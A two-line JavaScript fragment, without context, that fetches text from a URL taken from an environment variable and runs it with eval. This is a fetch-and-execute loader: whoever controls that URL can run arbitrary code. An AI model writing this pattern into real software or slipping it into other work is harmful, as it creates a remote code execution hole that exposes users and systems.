const response = await fetch(process.env.URL);
eval(await response.text());
